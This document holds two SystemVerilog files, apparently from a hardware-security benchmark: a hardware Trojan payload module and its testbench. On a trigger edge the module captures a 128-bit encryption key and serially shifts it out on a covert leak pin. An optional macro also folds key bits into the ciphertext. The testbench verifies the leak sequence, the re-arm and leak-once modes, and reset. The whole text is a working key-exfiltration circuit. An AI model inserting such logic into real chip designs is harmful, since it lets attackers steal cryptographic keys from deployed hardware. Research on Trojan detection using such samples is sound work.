// File: rtl/tj_key_leak_payload.sv
// Key-leak payload: on a trigger rising edge, captures the key and shifts it out MSB first
// on leak_bit, one bit per BIT_PERIOD cycles. Ciphertext is registered through. Option macro: TJ_CT_CORRUPT_EN.
module tj_key_leak_payload #(
  parameter int KEY_W      = 128,
  parameter int BIT_PERIOD = 4,
  parameter bit REARM      = 1'b1
) (
  input  logic             clk,
  input  logic             rst,
  input  logic             trigger,
  input  logic [KEY_W-1:0] key,
  input  logic [127:0]     ct_in,
  input  logic             ct_valid,
  output logic [127:0]     ct_out,
  output logic             ct_out_vld,
  output logic             leak_bit,
  output logic             leak_vld,
  output logic             busy
);

  localparam int BW = $clog2(KEY_W);
  localparam int PW = $clog2(BIT_PERIOD) + 1;

  typedef enum logic [1:0] {IDLE, CAPTURE, SHIFT, DONE} state_t;

  state_t           state_q, state_d;
  logic             trig_q, trig_d;
  logic [KEY_W-1:0] sreg_q, sreg_d;
  logic [BW-1:0]    bit_cnt_q, bit_cnt_d;
  logic [PW-1:0]    per_cnt_q, per_cnt_d;
  logic             done_once_q, done_once_d;
  logic             leak_bit_q, leak_bit_d;
  logic             leak_vld_q, leak_vld_d;
  logic [127:0]     ct_out_q, ct_out_d;
  logic             ct_out_vld_q, ct_out_vld_d;
  logic             arm;
  logic             per_wrap;
  logic             last_bit;

  assign arm      = trigger & ~trig_q;
  assign per_wrap = (per_cnt_q == PW'(BIT_PERIOD - 1));
  assign last_bit = (bit_cnt_q == BW'(KEY_W - 1));

  always_comb begin
    state_d      = state_q;
    trig_d       = trigger;
    sreg_d       = sreg_q;
    bit_cnt_d    = bit_cnt_q;
    per_cnt_d    = per_cnt_q;
    done_once_d  = done_once_q;
    leak_bit_d   = 1'b0;
    leak_vld_d   = 1'b0;
    ct_out_vld_d = ct_valid;
`ifdef TJ_CT_CORRUPT_EN
    // Current key bit is also folded into the ciphertext LSB while leaking.
    ct_out_d     = {ct_in[127:1],
                    ct_in[0] ^ ((state_q == SHIFT) & ct_valid & sreg_q[KEY_W-1])};
`else
    ct_out_d     = ct_in;
`endif

    case (state_q)
      IDLE: begin
        if (arm && (REARM || !done_once_q)) state_d = CAPTURE;
      end
      CAPTURE: begin
        sreg_d    = key;
        bit_cnt_d = '0;
        per_cnt_d = '0;
        state_d   = SHIFT;
      end
      SHIFT: begin
        leak_bit_d = sreg_q[KEY_W-1];
        leak_vld_d = 1'b1;
        if (per_wrap) begin
          per_cnt_d = '0;
          sreg_d    = sreg_q << 1;
          if (last_bit) begin
            bit_cnt_d   = '0;
            done_once_d = 1'b1;
            state_d     = DONE;
          end else begin
            bit_cnt_d = bit_cnt_q + BW'(1);
          end
        end else begin
          per_cnt_d = per_cnt_q + PW'(1);
        end
      end
      DONE: begin
        // Level-based exit; re-entry still needs a fresh rising edge.
        if (!trigger) state_d = IDLE;
      end
      default: state_d = IDLE;
    endcase
  end

  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      state_q      <= IDLE;
      trig_q       <= 1'b0;
      sreg_q       <= '0;
      bit_cnt_q    <= '0;
      per_cnt_q    <= '0;
      done_once_q  <= 1'b0;
      leak_bit_q   <= 1'b0;
      leak_vld_q   <= 1'b0;
      ct_out_q     <= '0;
      ct_out_vld_q <= 1'b0;
    end else begin
      state_q      <= state_d;
      trig_q       <= trig_d;
      sreg_q       <= sreg_d;
      bit_cnt_q    <= bit_cnt_d;
      per_cnt_q    <= per_cnt_d;
      done_once_q  <= done_once_d;
      leak_bit_q   <= leak_bit_d;
      leak_vld_q   <= leak_vld_d;
      ct_out_q     <= ct_out_d;
      ct_out_vld_q <= ct_out_vld_d;
    end
  end

  assign ct_out     = ct_out_q;
  assign ct_out_vld = ct_out_vld_q;
  assign leak_bit   = leak_bit_q;
  assign leak_vld   = leak_vld_q;
  assign busy       = (state_q == CAPTURE) || (state_q == SHIFT);

endmodule

// File: tb/tb_tj_key_leak_payload.sv
// Directed bench for tj_key_leak_payload: a re-arming instance and a leak-once instance
// share stimulus; ciphertext vectors come from a table, leak sequences from a bit model.
module tb_tj_key_leak_payload;

  logic         clk = 1'b0;
  logic         rst;
  logic         trigger;
  logic [127:0] key;
  logic [127:0] ct_in;
  logic         ct_valid;

  logic [127:0] ct_out_a, ct_out_b;
  logic         ct_out_vld_a, ct_out_vld_b;
  logic         leak_bit_a, leak_bit_b;
  logic         leak_vld_a, leak_vld_b;
  logic         busy_a, busy_b;

  int n_pass  = 0;
  int n_total = 0;

`ifdef TJ_CT_CORRUPT_EN
  localparam bit CORRUPT = 1'b1;
`else
  localparam bit CORRUPT = 1'b0;
`endif

  tj_key_leak_payload #(.KEY_W(128), .BIT_PERIOD(4), .REARM(1'b1)) dut (
    .clk(clk), .rst(rst), .trigger(trigger), .key(key), .ct_in(ct_in), .ct_valid(ct_valid),
    .ct_out(ct_out_a), .ct_out_vld(ct_out_vld_a), .leak_bit(leak_bit_a),
    .leak_vld(leak_vld_a), .busy(busy_a)
  );

  tj_key_leak_payload #(.KEY_W(128), .BIT_PERIOD(4), .REARM(1'b0)) dut_once (
    .clk(clk), .rst(rst), .trigger(trigger), .key(key), .ct_in(ct_in), .ct_valid(ct_valid),
    .ct_out(ct_out_b), .ct_out_vld(ct_out_vld_b), .leak_bit(leak_bit_b),
    .leak_vld(leak_vld_b), .busy(busy_b)
  );

  always #5 clk = ~clk;

  typedef struct {
    logic [127:0] ct;
    logic         vld;
    logic [127:0] exp_ct;
    logic         exp_vld;
  } ct_vec_t;

  ct_vec_t vecs [5];

  task automatic chk(input string name, input logic [127:0] act, input logic [127:0] exp);
    n_total++;
    if (act === exp) n_pass++;
    else $display("FAIL %s: got %h expected %h", name, act, exp);
  endtask

  task automatic tick();
    @(posedge clk);
    #1;
  endtask

  // One full leak from a rising trigger edge; k is the key the model expects on the pin.
  task automatic run_leak(input logic [127:0] k, input bit once_exp, input bit hold);
    int idx;
    logic exp_bit;
    key      = k;
    ct_in    = '0;
    ct_valid = 1'b1;
    trigger  = 1'b1;
    tick();
    chk("capture_busy", {127'b0, busy_a}, 128'd1);
    chk("capture_leak_vld", {127'b0, leak_vld_a}, 128'd0);
    chk("once_capture_busy", {127'b0, busy_b}, {127'b0, once_exp});
    if (!hold) trigger = 1'b0;
    tick();
    chk("shift_entry_busy", {127'b0, busy_a}, 128'd1);
    chk("shift_entry_leak_vld", {127'b0, leak_vld_a}, 128'd0);
    key = ~k;
    for (int i = 0; i < 512; i++) begin
      tick();
      idx     = 127 - i / 4;
      exp_bit = k[idx];
      chk($sformatf("leak_vld[%0d]", i), {127'b0, leak_vld_a}, 128'd1);
      chk($sformatf("leak_bit[%0d]", i), {127'b0, leak_bit_a}, {127'b0, exp_bit});
      chk($sformatf("ct_shift[%0d]", i), ct_out_a, {127'b0, CORRUPT & exp_bit});
      if (once_exp) begin
        chk($sformatf("once_leak_bit[%0d]", i), {127'b0, leak_bit_b}, {127'b0, exp_bit});
        chk($sformatf("once_leak_vld[%0d]", i), {127'b0, leak_vld_b}, 128'd1);
      end else begin
        chk($sformatf("once_blocked_vld[%0d]", i), {127'b0, leak_vld_b}, 128'd0);
        chk($sformatf("once_blocked_ct[%0d]", i), ct_out_b, 128'd0);
      end
    end
    tick();
    chk("after_leak_vld", {127'b0, leak_vld_a}, 128'd0);
    chk("after_leak_busy", {127'b0, busy_a}, 128'd0);
    chk("after_leak_ct", ct_out_a, 128'd0);
    chk("once_after_busy", {127'b0, busy_b}, 128'd0);
  endtask

  initial begin
    #1_000_000;
    $display("FAIL watchdog: got timeout expected finish");
    $fatal(1, "watchdog expired");
  end

  initial begin
    vecs[0] = '{128'hDEADBEEF_DEADBEEF_DEADBEEF_DEADBEEF, 1'b1,
                128'hDEADBEEF_DEADBEEF_DEADBEEF_DEADBEEF, 1'b1};
    vecs[1] = '{128'h0, 1'b1, 128'h0, 1'b1};
    vecs[2] = '{128'hFFFFFFFF_FFFFFFFF_FFFFFFFF_FFFFFFFF, 1'b0,
                128'hFFFFFFFF_FFFFFFFF_FFFFFFFF_FFFFFFFF, 1'b0};
    vecs[3] = '{128'h01234567_89ABCDEF_FEDCBA98_76543210, 1'b1,
                128'h01234567_89ABCDEF_FEDCBA98_76543210, 1'b1};
    vecs[4] = '{128'h1, 1'b0, 128'h1, 1'b0};

    rst      = 1'b1;
    trigger  = 1'b0;
    key      = '0;
    ct_in    = '1;
    ct_valid = 1'b1;
    tick();
    tick();
    chk("rst_ct_out", ct_out_a, 128'd0);
    chk("rst_ct_out_vld", {127'b0, ct_out_vld_a}, 128'd0);
    chk("rst_leak_bit", {127'b0, leak_bit_a}, 128'd0);
    chk("rst_leak_vld", {127'b0, leak_vld_a}, 128'd0);
    chk("rst_busy", {127'b0, busy_a}, 128'd0);
    chk("rst_once_busy", {127'b0, busy_b}, 128'd0);

    rst      = 1'b0;
    ct_valid = 1'b0;
    tick();

    for (int v = 0; v < 5; v++) begin
      ct_in    = vecs[v].ct;
      ct_valid = vecs[v].vld;
      tick();
      chk($sformatf("vec%0d_ct_out", v), ct_out_a, vecs[v].exp_ct);
      chk($sformatf("vec%0d_ct_vld", v), {127'b0, ct_out_vld_a}, {127'b0, vecs[v].exp_vld});
      chk($sformatf("vec%0d_leak_vld", v), {127'b0, leak_vld_a}, 128'd0);
    end
    ct_valid = 1'b0;
    tick();

    // First leak: both instances leak.
    run_leak(128'h80000000_00000000_00000000_00000001, 1'b1, 1'b0);
    for (int i = 0; i < 3; i++) tick();

    // Second leak: re-arming instance repeats, leak-once instance stays silent.
    run_leak(128'h80000000_00000000_00000000_00000001, 1'b0, 1'b0);
    for (int i = 0; i < 3; i++) tick();

    // Trigger held through the leak and into DONE: no re-arm.
    run_leak(128'hA5C3_0F96_1234_5678_9ABC_DEF0_5A5A_C3C3, 1'b0, 1'b1);
    for (int i = 0; i < 5; i++) begin
      tick();
      chk($sformatf("done_hold_busy[%0d]", i), {127'b0, busy_a}, 128'd0);
      chk($sformatf("done_hold_vld[%0d]", i), {127'b0, leak_vld_a}, 128'd0);
    end
    trigger = 1'b0;
    tick();
    tick();

    // Asynchronous reset while leak bit 50 is on the pin.
    key      = 128'hFFFF_0000_FFFF_0000_FFFF_0000_FFFF_0000;
    ct_in    = 128'h5;
    ct_valid = 1'b1;
    trigger  = 1'b1;
    tick();
    trigger = 1'b0;
    tick();
    for (int i = 0; i < 51; i++) tick();
    chk("pre_rst_leak_vld", {127'b0, leak_vld_a}, 128'd1);
    #2;
    rst = 1'b1;
    #1;
    chk("mid_rst_leak_vld", {127'b0, leak_vld_a}, 128'd0);
    chk("mid_rst_leak_bit", {127'b0, leak_bit_a}, 128'd0);
    chk("mid_rst_busy", {127'b0, busy_a}, 128'd0);
    chk("mid_rst_ct_vld", {127'b0, ct_out_vld_a}, 128'd0);
    tick();
    tick();
    rst = 1'b0;
    for (int i = 0; i < 10; i++) begin
      tick();
      chk($sformatf("post_rst_vld[%0d]", i), {127'b0, leak_vld_a}, 128'd0);
      chk($sformatf("post_rst_busy[%0d]", i), {127'b0, busy_a | busy_b}, 128'd0);
    end

    // Reset cleared done_once, so both instances leak again on a new edge.
    run_leak(128'hA5C3_0F96_1234_5678_9ABC_DEF0_5A5A_C3C3, 1'b1, 1'b0);

    $display("%0d/%0d checks passed", n_pass, n_total);
    $finish;
  end

endmodule
